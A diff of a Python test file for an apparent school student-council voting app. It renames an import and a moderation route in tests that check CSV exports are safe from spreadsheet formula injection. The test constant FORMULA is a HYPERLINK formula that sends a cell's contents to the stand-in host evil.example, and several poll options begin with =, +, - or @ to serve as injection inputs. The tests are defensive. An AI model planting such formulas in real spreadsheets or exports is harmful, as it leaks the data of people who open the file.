@@ -9,7 +9,7 @@ from sqlmodel import select
 
 from app.models import Statement
 from app.services import voting
-from security_support import item_form
+from support.voting import form
 
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'
 
@@ -25,7 +25,7 @@ def _starts_like_a_formula(cell: str) -> bool:
 def test_a_pupils_statement_is_exported_as_text(app, pupil, council, session):
     assert pupil.form("/stellingen", {"text": FORMULA + " meer pauze"}).status_code == 200
     item = session.exec(select(Statement)).one()
-    council.form(f"/moderatie/statement/{item.id}", {"decision": "approve"})
+    council.form(f"/council/moderation/statement/{item.id}", {"decision": "approve"})
     r = council.get("/council/voting.csv")
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
     cells = _cells(r.text, ";")
@@ -35,7 +35,7 @@ def test_a_pupils_statement_is_exported_as_text(app, pupil, council, session):
 
 def test_poll_options_and_group_names_are_exported_as_text(app, admin, council, session, school):
     assert admin.form("/admin/groups", {"name": "@klas", "parent": "3de jaar"}, follow_redirects=False).status_code == 303
-    poll = voting.create_poll(session, council.staff, item_form(
+    poll = voting.create_poll(session, council.staff, form(
         "Wat eten we?", kind="single", options="+frietjes\n-soep\n\tpasta\n=1+1"))
     session.commit()
     r = council.get(f"/council/voting/polls/{poll.id}/results.csv")
